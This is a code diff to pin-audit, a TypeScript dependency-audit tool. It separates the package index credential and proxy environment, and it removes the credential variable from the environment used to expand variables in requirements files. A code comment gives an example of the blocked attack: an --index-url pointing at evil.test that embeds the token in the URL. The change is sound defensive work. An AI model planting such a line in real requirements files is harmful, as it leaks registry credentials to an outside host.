@@ -11,7 +11,11 @@ import { groupProjects, type ParsedFile } from "./discover/group-projects.js";
 import { readTextFile } from "./discover/read-text-file.js";
 import { createRequirementsReader } from "./discover/resolve-requirements.js";
 import { gatherIndexFacts } from "./index/gather-index-facts.js";
-import { maskSecrets, redactUrl } from "./index/index-endpoint.js";
+import {
+	INDEX_TOKEN_ENV,
+	maskSecrets,
+	redactUrl,
+} from "./index/index-endpoint.js";
 import type { Diagnostic, Finding, Project } from "./model/types.js";
 import { parsePoetryLock } from "./parse/poetry-lock.js";
 import { parsePylock } from "./parse/pylock.js";
@@ -26,8 +30,15 @@ export interface AuditOptions {
 	root: string;
 	include?: readonly string[];
 	exclude?: readonly string[];
-	/** Environment for `${VAR}` in requirements files (pip reads os.environ). */
+	/**
+	 * Environment for `${VAR}` in requirements files (pip reads os.environ) and the index client's proxy settings.
+	 * pin-audit's own credential variable is never expanded into a file's text.
+	 */
 	env?: Readonly<Record<string, string | undefined>>;
+	/** Credential for the configured index (`indexUrl` or the policy's `index-url`) only. */
+	indexToken?: string | null;
+	/** Environment the index client reads its proxy settings from (HTTPS_PROXY, NO_PROXY); default: `env`. */
+	networkEnv?: Readonly<Record<string, string | undefined>>;
 	/** Policy file; relative paths are relative to root. Default: pin-audit.toml or [tool.pin-audit]. */
 	policyPath?: string;
 	/** The date exceptions' `until` is compared with. */
@@ -88,7 +99,7 @@ export async function auditRepository(options: AuditOptions): Promise<Report> {
 
 	const reader = createRequirementsReader(
 		discovery.rootReal,
-		options.env ?? {},
+		withoutCredential(options.env ?? {}),
 	);
 	const parsed = await mapConcurrently(
 		discovery.files,
@@ -153,7 +164,8 @@ export async function auditRepository(options: AuditOptions): Promise<Report> {
 		offline: options.offline ?? true,
 		indexUrl: options.indexUrl ?? loaded.policy.indexUrl,
 		cacheDir: options.cacheDir ?? null,
-		env: options.env ?? {},
+		env: options.networkEnv ?? options.env ?? {},
+		token: options.indexToken ?? null,
 	});
 	const evaluated = evaluatePolicy(projects, loaded.policy, {
 		today: options.today ?? new Date(),
@@ -284,4 +296,13 @@ async function mapConcurrently<T, R>(
 	);
 	await Promise.all(workers);
 	return results;
+}
+
+// A requirements file could otherwise write `--index-url https://evil.test/${PIN_AUDIT_INDEX_TOKEN}/simple`.
+function withoutCredential(
+	env: Readonly<Record<string, string | undefined>>,
+): Readonly<Record<string, string | undefined>> {
+	if (env[INDEX_TOKEN_ENV] === undefined) return env;
+	const { [INDEX_TOKEN_ENV]: _credential, ...rest } = env;
+	return rest;
 }
